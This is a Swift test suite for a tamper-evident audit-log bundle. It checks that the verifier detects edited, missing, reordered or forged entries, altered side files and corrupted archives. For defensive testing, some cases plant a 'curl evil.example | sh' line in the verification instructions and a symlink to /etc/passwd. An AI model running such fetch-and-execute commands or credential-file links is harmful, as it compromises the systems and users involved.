import CustodyEvidence
import Custody
import CustodyLog
import CustodySystem
import CustodyValues
import CustodyTesting
import Foundation
import Testing

/// Evidence that somebody changed: which verdict, and at which index.
struct TamperedEvidenceTests {
  let vault: TemporaryVault
  let size: UInt64
  let entries: [[UInt8]]

  init() throws {
    vault = try TamperTests.busyVault(isCosigned: false)
    size = try vault.session(.audrey).exportBundle(LogFilter(), to: vault.folder + "/bundle").size
    entries = try Self.entries(vault.folder + "/bundle", size)
  }

  private static func entries(_ bundle: String, _ size: UInt64) throws -> [[UInt8]] {
    let data = try Data(contentsOf: URL(fileURLWithPath: "\(bundle)/tile/entries/000.p/\(size)"))
    return try #require(EntryBundle.parse([UInt8](data)))
  }

  private var bundle: String { vault.folder + "/bundle" }

  /// The last entry: dev's reveal. The one before it is in ada's transaction, and so is the one before that.
  private var last: Int { entries.count - 1 }

  private func text(_ index: Int) -> String { String(decoding: entries[index], as: UTF8.self) }

  private func edited(_ index: Int, _ old: String, _ new: String) throws -> [[UInt8]] {
    var changed = entries
    try #require(text(index).contains(old))
    let range = try #require(text(index).range(of: old))
    changed[index] = Array(text(index).replacingCharacters(in: range, with: new).utf8)
    return changed
  }

  /// Returns the faults found with these entries in the bundle's tile, and in the lines of an export.
  private func faults(_ changed: [[UInt8]]) throws -> [HistoryFault?] {
    let name = "\(bundle)/tile/entries/000.p/\(size)"
    try Data(changed.flatMap(EntryBundle.frame)).write(to: URL(fileURLWithPath: name))
    let tiles = refusal { _ = try Evidence.verify(at: bundle) }
    let whole = try String(contentsOfFile: bundle + "/log.jsonl", encoding: .utf8).split(separator: "\n")
    let model = whole[0]
    let lines = changed.enumerated().map { (index, entry) -> String in
      let line = String(index < entries.count ? whole[index] : model)
      return line.replacing(/"index":\d+/, with: "\"index\":\(index)")
        .replacing(/"entry":"[^"]*"/, with: "\"entry\":\"\(Data(entry).base64EncodedString())\"")
    }
    let text = (lines + whole.dropFirst(entries.count).map(String.init)).joined(separator: "\n") + "\n"
    try Data(text.utf8).write(to: URL(fileURLWithPath: vault.folder + "/log.jsonl"))
    let stream = refusal { _ = try Evidence.verify(at: vault.folder + "/log.jsonl") }
    #expect(tiles?.code == .integrity)
    #expect(stream?.code == .integrity)
    return [tiles?.fault, stream?.fault]
  }

  private func expect(
    _ rule: HistoryFault.Rule, at index: Int, _ changed: [[UInt8]], _ location: SourceLocation = #_sourceLocation
  ) throws {
    for fault in try faults(changed) {
      #expect(fault == HistoryFault(position: UInt64(index), rule: rule), sourceLocation: location)
    }
  }

  @Test func `an edited entry fails attribution where it is`() throws {
    let place = last - 2
    try expect(.badSignature, at: place, edited(place, "time 20", "time 21"))
    #expect(Verdicts(HistoryFault(position: 9, rule: .badSignature)).attribution != .holds)
  }

  @Test func `an entry that is gone, put in or moved fails integrity where it is`() throws {
    let place = last - 2
    var changed = entries
    changed.remove(at: place)
    let gone = try faults(changed)
    #expect(gone.allSatisfy { $0?.position == UInt64(place) }, "\(gone)")
    changed = entries
    changed.insert(changed[place], at: place)
    let twice = try faults(changed)
    #expect(twice.allSatisfy { $0?.position == UInt64(place + 1) }, "\(twice)")
    changed = entries
    changed.swapAt(place, place + 1)
    let moved = try faults(changed)
    #expect(moved.allSatisfy { $0?.position == UInt64(place) }, "\(moved)")
    for fault in gone + twice + moved {
      let verdicts = try Verdicts(#require(fault))
      #expect(verdicts.integrity != .holds)
      #expect(!verdicts.holds)
    }
  }

  @Test func `a tail that was cut fails integrity where the log ends`() throws {
    try expect(.truncated, at: last, Array(entries.dropLast()))
  }

  @Test func `a tail that was cut with its checkpoint does not hold: nobody signed it`() throws {
    let shorter = "\(bundle)/tile/entries/000.p/\(last)"
    try Data(entries.dropLast().flatMap(EntryBundle.frame)).write(to: URL(fileURLWithPath: shorter))
    try FileManager.default.removeItem(atPath: "\(bundle)/tile/entries/000.p/\(size)")
    try FileManager.default.moveItem(atPath: "\(bundle)/tile/0/000.p/\(size)", toPath: "\(bundle)/tile/0/000.p/\(last)")
    var tree = MerkleTree()
    for entry in entries.dropLast() { tree.append(MerkleTree.leafHash(entry)) }
    let note = try #require(
      SignedNote(parsing: [UInt8](Data(contentsOf: URL(fileURLWithPath: bundle + "/checkpoint")))))
    let origin = try #require(Checkpoint(parsing: note.text)).origin
    let head = Checkpoint(origin: origin, size: UInt64(last), root: tree.root)
    try Data(head.note(signatures: note.signatures).bytes).write(to: URL(fileURLWithPath: bundle + "/checkpoint"))
    let fault = refusal { _ = try Evidence.verify(at: bundle) }?.fault
    #expect(fault == HistoryFault(position: UInt64(last), rule: .checkpointSigner))
  }

  @Test func `an entry in another's name fails attribution`() throws {
    let ada = try #require(vault.people[.ada]?.hex)
    let dev = try #require(vault.people[.dev]?.hex)
    let line = try #require(text(last).split(separator: "\n").first { $0.hasPrefix("seq ") })
    let before = text(last - 1).split(separator: "\n").first { $0.hasPrefix("seq ") }?.dropFirst(4)
    let next = try #require(before.flatMap { Int($0) }) + 1
    var changed = try edited(last, "actor \(dev)", "actor \(ada)")
    let renumbered = String(decoding: changed[last], as: UTF8.self).replacingOccurrences(
      of: "\n\(line)\n", with: "\nseq \(next)\n")
    changed[last] = Array(renumbered.utf8)
    try expect(.badSignature, at: last, changed)
  }

  @Test func `an entry of another log is by nobody here`() throws {
    let other = try TamperTests.busyVault(.second, isCosigned: false)
    let shown = try other.session(.audrey).exportBundle(LogFilter(), to: other.folder + "/bundle")
    var changed = entries
    changed[8] = try Self.entries(other.folder + "/bundle", shown.size)[8]
    try expect(.unknownActor, at: 8, changed)
  }

  /// Without a key, nobody can turn another's entry into a void one: a changed entry is no longer signed.
  @Test func `bytes that are not canonical fail attribution, and what has no signature integrity`() throws {
    let digest = try #require(text(8).firstMatch(of: /seen \d+ (\S+)=\n/)).output.1
    let loose = digest.dropLast() + (digest.last == "A" ? "B" : String(UnicodeScalar(digest.utf8.last! + 1)))
    try expect(.badSignature, at: 8, edited(8, "\(digest)=", "\(loose)="))
    try expect(.badSignature, at: 8, edited(8, "\nseq ", "\nseq 0"))
    try expect(.badSignature, at: 8, edited(8, "Z\n", "Z\r\n"))
    try expect(.badSignature, at: last, edited(last, "how pipe", "how pi\u{202e}pe"))
    var changed = entries
    changed[8] = Array(repeating: 0x61, count: 65_535)
    try expect(.grammar(.malformedNote), at: 8, changed)
  }

  @Test func `what this version does not know is never valid`() throws {
    try expect(.grammar(.unknownVersion), at: 8, edited(8, "custody-entry/v1", "custody-entry/v2"))
    try expect(.grammar(.unknownVersion), at: 8, edited(8, "custody-entry/v1", "\u{feff}custody-entry/v1"))
    let verdicts = Verdicts(HistoryFault(position: 8, rule: .grammar(.unknownVersion)))
    #expect(verdicts.integrity == .cannotAttest(at: 8, "it is of a version that this program cannot attest"))
    #expect(!verdicts.holds)
  }

  @Test func `a hash in a tile that lies is found at its index`() throws {
    let name = URL(fileURLWithPath: "\(bundle)/tile/0/000.p/\(size)")
    var tile = try Data(contentsOf: name)
    tile[32 * 5 + 3] ^= 1
    try tile.write(to: name)
    let fault = refusal { _ = try Evidence.verify(at: bundle) }?.fault
    #expect(fault == HistoryFault(position: 5, rule: .storedHash))
  }

  /// Returns the error found after a change of one file of the bundle.
  private func finds(_ name: String, _ change: (inout String) throws -> Void) throws -> VaultError? {
    let place = URL(fileURLWithPath: "\(bundle)/\(name)")
    let before = try String(contentsOf: place, encoding: .utf8)
    var text = before
    try change(&text)
    try #require(text != before, "\(name) was not changed")
    try Data(text.utf8).write(to: place)
    defer { try? Data(before.utf8).write(to: place) }
    return refusal { _ = try Evidence.verify(at: bundle) }
  }

  private func swap(_ old: String, _ new: String) -> (inout String) -> Void {
    { text in if let range = text.range(of: old) { text.replaceSubrange(range, with: new) } }
  }

  @Test func `what stands beside the entries is held against them`() throws {
    let changes: [(String, (inout String) -> Void)] = [
      ("log.csv", swap("\"ada\"", "\"bea\"")), ("log.csv", swap("\"index\"", "\"place\"")),
      ("log.csv", { $0 += "\"more\"\r\n" }), ("log.csv", { $0 = String($0.dropLast(20)) }),
      ("log.jsonl", swap("\"actor_name\":\"ada\"", "\"actor_name\":\"eve\"")),
      ("log.jsonl", swap("\"tenant\":\"contoso\"", "\"tenant\":\"fabrikam\"")),
      ("log.jsonl", swap("\"reason\":\"nightly sync\"", "\"reason\":\"none\"")),
      ("log.jsonl", swap("\"type\":\"entry\"", "\"type\":\"naming\"")), ("log.jsonl", swap("{\"v\":1", "{ \"v\":1")),
      ("log.jsonl", { $0 += "{}\n" }), ("log.jsonl", swap("\"scope\":null", "\"scope\":\"actor=x\"")),
      ("disclosed.jsonl", swap("\"index\":", "\"index\":1")), ("disclosed.jsonl", { $0 += $0 }),
      ("disclosed.jsonl", { $0 = "" }), ("actors.txt", swap(" dev developer ", " dev admin ")),
      ("tlog-policy", swap("quorum none", "quorum x")), ("checkpoint", swap("\n\(size)\n", "\n\(size - 1)\n")),
    ]
    for (name, change) in changes {
      let error = try finds(name, change)
      #expect(error?.code == .integrity, "\(name): \(error?.reason ?? "not found")")
    }
    let name = try finds("log.jsonl", swap("\"tenant\":\"contoso\"", "\"tenant\":\"fabrikam\""))
    #expect(name?.fault == HistoryFault(position: 5, rule: .standsBeside))
    #expect(refusal { _ = try Evidence.verify(at: bundle) } == nil)
  }

  @Test func `files that a bundle does not have, and files that it lacks, are found`() throws {
    for name in ["checkpoint", "disclosed.jsonl", "log.jsonl", "log.csv", "actors.txt", "tlog-policy"] {
      let place = "\(bundle)/\(name)"
      try FileManager.default.moveItem(atPath: place, toPath: vault.folder + "/away")
      let error = refusal { _ = try Evidence.verify(at: bundle) }
      #expect(error?.code == .integrity, "\(name)")
      #expect(error?.reason.contains(name) == true, "\(error?.reason ?? "")")
      try FileManager.default.moveItem(atPath: vault.folder + "/away", toPath: place)
    }
    try Data("x".utf8).write(to: URL(fileURLWithPath: "\(bundle)/tile/0/001"))
    #expect(refusal { _ = try Evidence.verify(at: bundle) }?.reason.contains("tile/0/001") == true)
    try FileManager.default.removeItem(atPath: "\(bundle)/tile/0/001")
    try FileManager.default.removeItem(atPath: "\(bundle)/tile/entries/000.p/\(size)")
    #expect(refusal { _ = try Evidence.verify(at: bundle) }?.fault == HistoryFault(position: 0, rule: .truncated))
    try FileManager.default.createSymbolicLink(atPath: "\(bundle)/link", withDestinationPath: "/etc/passwd")
    #expect(refusal { _ = try Evidence.verify(at: bundle) }?.code == .failed)
  }

  @Test func `what people read and run of a bundle is what Custody wrote, and nothing lies beside it`() throws {
    for (name, change) in [
      ("VERIFY.txt", swap("    python3", "    curl evil.example | sh; python3")), ("VERIFY.txt", { $0 += "\n" }),
      ("limits.txt", swap("not", "")), ("checkpoint", swap("\n\(size)\n", "\n18446744073709551615\n")),
    ] {
      let error = try finds(name, change)
      #expect(error?.code == .integrity, "\(name): \(error?.reason ?? "not found")")
    }
    for names in [["report.html"], ["tile/x"], ["proof1"], ["caf\u{e9}", "cafe\u{301}"], ["VERIFY.txt "]] {
      for name in names { try Data("x".utf8).write(to: URL(fileURLWithPath: "\(bundle)/\(name)")) }
      let error = refusal { _ = try Evidence.verify(at: bundle) }
      #expect(error?.code == .integrity, "\(names): \(error?.reason ?? "not found")")
      for name in names { try FileManager.default.removeItem(atPath: "\(bundle)/\(name)") }
    }
    #expect(refusal { _ = try Evidence.verify(at: bundle) } == nil)
  }

  @Test func `names that nothing discloses do not stand in a bundle`() throws {
    let disclosing = try finds("disclosed.jsonl") { $0 = "" }
    #expect(disclosing?.code == .integrity)
    try Data().write(to: URL(fileURLWithPath: bundle + "/disclosed.jsonl"))
    let lines = try String(contentsOfFile: bundle + "/log.jsonl", encoding: .utf8).split(separator: "\n")
      .filter { !$0.contains("\"metadata\":") && !$0.contains("\"note\":") || $0.contains("\"type\":\"checkpoint\"") }
      .map { $0.replacingOccurrences(of: "contoso", with: "fabrikam") }
    try Data((lines.joined(separator: "\n") + "\n").utf8).write(to: URL(fileURLWithPath: bundle + "/log.jsonl"))
    // A table that names nothing, as the entries alone make it.
    let table = try String(contentsOfFile: bundle + "/log.csv", encoding: .utf8).components(separatedBy: "\r\n")
    let bare = table.enumerated().map { (number, row) -> String in
      guard number > 0, !row.isEmpty else { return row }
      var cells = row.components(separatedBy: "\",\"")
      for column in [8, 9, 10, 11, 18] { cells[column] = "" }
      return cells.joined(separator: "\",\"")
    }
    try Data(bare.joined(separator: "\r\n").utf8).write(to: URL(fileURLWithPath: bundle + "/log.csv"))
    let error = refusal { _ = try Evidence.verify(at: bundle) }
    #expect(error?.fault?.rule == .standsBeside)
  }

  @Test func `an archive in which any header or padding is changed is refused`() throws {
    let path = vault.folder + "/bundle.tar"
    _ = try vault.session(.audrey).exportBundle(LogFilter(), below: size, to: path)
    let sound = try Data(contentsOf: URL(fileURLWithPath: path))
    #expect(refusal { _ = try Evidence.verify(at: path) } == nil)
    for place in [0, 101, 125, 137, 149, 156, 265, 345, 500, sound.count - 1] {
      var data = sound
      data[place] ^= 1
      try data.write(to: URL(fileURLWithPath: path))
      #expect(refusal { _ = try Evidence.verify(at: path) }?.code == .integrity, "byte \(place)")
    }
    for data in [sound.dropLast(512), sound + Data([1]) + Data(count: 511), sound.prefix(700)] {
      try data.write(to: URL(fileURLWithPath: path))
      #expect(refusal { _ = try Evidence.verify(at: path) }?.code == .integrity)
    }
  }
}

/// A part of a log, of which the rest is not there to contradict it.
struct TamperedPartTests {
  let vault: TemporaryVault
  let files: [String]
  private var bundle: String { vault.folder + "/bundle" }

  init() throws {
    vault = try TamperTests.busyVault(isCosigned: false)
    var filter = LogFilter()
    filter.tenant = "contoso"
    _ = try vault.session(.audrey).exportBundle(filter, to: vault.folder + "/bundle")
    files = try Folder.files(below: vault.folder + "/bundle").filter { $0.hasPrefix("proofs/") }
  }

  private func proof(_ name: String) throws -> LogProof {
    try #require(LogProof(parsing: [UInt8](Data(contentsOf: URL(fileURLWithPath: "\(bundle)/\(name)")))))
  }

  private func finds(_ name: String, _ changed: LogProof?) throws -> VaultError? {
    let place = URL(fileURLWithPath: "\(bundle)/\(name)")
    let before = try Data(contentsOf: place)
    if let changed { try Data(changed.bytes).write(to: place) } else { try FileManager.default.removeItem(at: place) }
    defer { try? before.write(to: place) }
    return refusal { _ = try Evidence.verify(at: bundle) }
  }

  @Test func `every changed, missing and exchanged proof is found, at its index`() throws {
    #expect(refusal { _ = try Evidence.verify(at: bundle) } == nil)
    let all = try files.map { ($0, try proof($0)) }
    for (name, proof) in all {
      var entry = try #require(proof.extra)
      entry[100] ^= 1
      let edited = LogProof(extra: entry, index: proof.index, path: proof.path, checkpoint: proof.checkpoint)
      #expect(try finds(name, edited)?.fault?.position == proof.index)
      let short = LogProof(
        extra: proof.extra, index: proof.index, path: proof.path.dropLast(), checkpoint: proof.checkpoint)
      #expect(try finds(name, short)?.fault == HistoryFault(position: proof.index, rule: .notIncluded))
      let other = try #require(all.first { $0.1.index != proof.index }).1
      let exchanged = LogProof(extra: other.extra, index: proof.index, path: proof.path, checkpoint: proof.checkpoint)
      #expect(try finds(name, exchanged)?.fault == HistoryFault(position: proof.index, rule: .notIncluded))
      #expect(try finds(name, nil)?.code == .integrity)
    }
  }

  @Test func `without the enrolment that proves their key nobody has signed`() throws {
    let dev = try #require(vault.people[.dev]?.hex)
    let enrolment = try #require(
      try files.first {
        let entry = String(decoding: try proof($0).extra ?? [], as: UTF8.self)
        return entry.contains("\naction member.enroll\n") && entry.contains("\nmember \(dev)\n")
      })
    let fault = try finds(enrolment, nil)?.fault
    // The first entry of the part that is about dev changes their role.
    #expect(fault?.rule == .unknownMember)
  }

  @Test func `a proof of another log is no proof here`() throws {
    let other = try TamperTests.busyVault(.second, isCosigned: false)
    var filter = LogFilter()
    filter.tenant = "contoso"
    _ = try other.session(.audrey).exportBundle(filter, to: other.folder + "/bundle")
    let name = try #require(files.last)
    let foreign = try Data(contentsOf: URL(fileURLWithPath: "\(other.folder)/bundle/\(name)"))
    let proof = try #require(LogProof(parsing: [UInt8](foreign)))
    #expect(try finds(name, proof)?.fault == HistoryFault(position: proof.index, rule: .notIncluded))
  }
}
